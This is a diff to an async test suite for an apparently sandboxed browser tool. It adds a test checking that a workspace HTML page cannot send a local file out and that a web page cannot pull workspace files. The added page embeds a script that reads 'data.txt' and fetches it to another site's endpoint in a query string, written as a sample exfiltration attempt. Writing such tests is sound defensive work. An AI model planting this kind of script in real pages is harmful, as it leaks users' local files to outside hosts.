@@ -169,11 +169,23 @@ async def test_address_policy(benv, site):
         waited = await client.call_tool("browser__wait_for_text", {"text": "probe blocked"})
         assert not probe.is_error and not waited.is_error
     await upload(benv, "ep-policy", "notes/page.html", b"<html><title>Local notes</title><body>from the workspace</body></html>")
+    await upload(benv, "ep-policy", "notes/leak.html", (
+        "<html><title>Leak</title><body><p id=r>trying</p><script>fetch('data.txt').then(r => r.text())"
+        f".then(t => {{ r.textContent = 'read ' + t; return fetch('{site.base}/cookie/show?x=' + t); }})"
+        ".then(() => { r.textContent += ' sent'; }, () => { r.textContent += ' stopped'; })"
+        "</script></body></html>").encode())
+    await upload(benv, "ep-policy", "notes/data.txt", b"workspace-secret")
     async with connect(benv, episode="ep-policy") as client:
         local = await client.call_tool("browser__open", {"url": "notes/page.html"})
         assert not local.is_error and "from the workspace" in text_of(local)
         absolute = await client.call_tool("browser__open", {"url": f"file://{benv.workspace_root}/ep-policy/notes/page.html"})
         assert not absolute.is_error and "Local notes" in text_of(absolute)
+        await client.call_tool("browser__open", {"url": "notes/leak.html"})
+        stopped = await client.call_tool("browser__wait_for_text", {"text": "read workspace-secret stopped"})
+        assert not stopped.is_error  # the workspace page read data.txt but could not send it out
+        probe = await client.call_tool("browser__open", {"url": f"{site.base}/probe?target=http://workspace.invalid/notes/data.txt"})
+        blocked = await client.call_tool("browser__wait_for_text", {"text": "probe blocked"})
+        assert not probe.is_error and not blocked.is_error  # a web page cannot pull workspace files
 
 
 async def test_episodes_do_not_share_cookies_and_ending_an_episode_closes_its_browser(benv, site):
